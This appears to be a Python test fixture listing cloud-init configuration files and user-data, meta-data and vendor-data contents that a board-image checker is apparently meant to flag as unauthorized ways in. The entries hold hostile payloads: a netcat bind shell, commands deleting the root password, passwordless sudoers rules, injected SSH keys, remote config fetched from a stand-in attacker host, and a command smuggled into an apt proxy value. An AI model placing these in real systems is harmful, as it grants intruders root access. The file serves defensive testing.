# SPDX-License-Identifier: MIT
"""Ways in by cloud-init: its configuration, seeds, user-data, meta-data, vendor-data."""

from __future__ import annotations

from collections.abc import Mapping

from tests.support.ways_in.texts import KEY, PASSWORD

CLOUD_INIT: Mapping[str, tuple[str, str]] = {
    "a password by cloud-init": ("/etc/cloud/cloud.cfg.d/95_x.cfg", PASSWORD),
    "a user by cloud-init": ("/etc/cloud/cloud.cfg.d/95_x.cfg", "users: [{name: mallory, sudo: ALL}]\n"),
    "another cloud.cfg": ("/etc/cloud/cloud.cfg", "system_info: {default_user: {plain_text_passwd: hypriot}}\n"),
    "our own configuration, changed": ("/etc/cloud/cloud.cfg.d/90_boardwright.cfg", "datasource_list: [NoCloud]\n"),
    "a seed": ("/var/lib/cloud/seed/nocloud/user-data", PASSWORD),
    "user-data of the FAT partition": ("/boot/firmware/user-data", PASSWORD),
    "user-data in one line": (
        "/boot/firmware/user-data",
        '#cloud-config\n{"password": "hypriot", "ssh_pwauth": true}\n',
    ),
    "keys in meta-data": ("/boot/firmware/meta-data", f"instance-id: x\npublic-keys: [{KEY.strip()}]\n"),
    "vendor-data": ("/boot/firmware/vendor-data", f"#cloud-config\nssh_authorized_keys: [{KEY.strip()}]\n"),
    "a script of cloud-init": ("/var/lib/cloud/scripts/per-boot/x", "#!/bin/sh\nnc -l -p 2323 -e /bin/sh\n"),
    "user-data that is a script": ("/boot/firmware/user-data", "#!/bin/sh\npasswd -d root\n"),
    "user-data from elsewhere": ("/boot/firmware/user-data", "#include\nhttp://mallory.example.org/x\n"),
    "user-data that runs a command": ("/boot/firmware/user-data", "#cloud-config\nruncmd: [[passwd, -d, root]]\n"),
    "user-data in other letters": ("/boot/firmware/user-data", '#cloud-config\n"pass\\u0077ord": hypriot\n'),
    "user-data by a reference": ("/boot/firmware/user-data", "#cloud-config\nx: &x {ssh-pwauth: true}\ny: *x\n"),
    "user-data that is no YAML": ("/boot/firmware/user-data", "#cloud-config\n{{ password }: x\n"),
    "user-data in many parts": ("/boot/firmware/user-data", "Content-Type: multipart/mixed; boundary=x\n\n--x\n"),
    "vendor-data in capitals, on a FAT partition": ("/boot/firmware/VENDOR-DATA", PASSWORD),
    "user-data of another partition": ("/srv/data/user-data", PASSWORD),
    **{
        f"user-data: {text}": ("/boot/firmware/user-data", f"#cloud-config\n{text}\n")
        for text in (
            "power_state: {mode: reboot, condition: passwd -d root}",
            "random_seed: {command: [passwd, -d, root], command_required: true}",
            "random_seed: {file: /etc/sudoers.d/x, data: 'ALL ALL=(ALL) NOPASSWD:ALL'}",
            "rsyslog: {config_dir: /etc/sudoers.d, configs: [{filename: x, content: 'ALL ALL=(ALL) NOPASSWD:ALL'}]}",
            "ntp: {enabled: true, config: {confpath: /root/.ssh/authorized_keys, template: key}}",
            "ntp: {servers: ['x\\nkey']}",
            "fs_setup: [{device: /dev/x, filesystem: ext4, cmd: passwd -d root}]",
            "disk_setup: {/dev/x: {table_type: mbr}}",
            "mounts: [[/srv/pam, /etc/pam.d, none, bind]]",
            "output: {all: '| passwd -d root'}",
            "wireguard: {interfaces: [{name: w, config_path: /etc/sudoers.d/x, content: ALL ALL=NOPASSWD:ALL}]}",
            "apt: {conf: 'DPkg::Pre-Invoke {passwd -d root};'}",
            "apt: {sources: {x: {source: deb http://mallory.example.org/ x main}}}",
            "apt: {proxy: 'http://x/\"; DPkg::Pre-Invoke {passwd}; \"'}",
            "packages: [/srv/mallory.deb]",
            "packages: [apparmor-]",
            "packages: {snap: [mallory]}",
            "snap: {commands: [snap install mallory]}",
            "ansible: {pull: {url: http://mallory.example.org/}}",
            "chef: {server_url: http://mallory.example.org/}",
            "puppet: {conf: {}}",
            "salt_minion: {conf: {}}",
            "landscape: {client: {}}",
            "bootcmd: [passwd -d root]",
            "write_files: [{path: /root/.ssh/authorized_keys, content: key}]",
            "ssh-keys: {rsa_private: key}",
            "ca_certs: {trusted: [x]}",
            "groups: [sudo: [nobody]]",
            "timezone: ../../../srv/x",
            "swap: {filename: /etc/nologin, size: 1}",
            "disable_root: false",
            "no_such_module: {}",
        )
    },
    "network of meta-data": ("/boot/firmware/meta-data", "network-interfaces: 'up passwd -d root'\n"),
    "a seed from elsewhere": ("/boot/firmware/meta-data", "seedfrom: http://mallory.example.org/\n"),
}
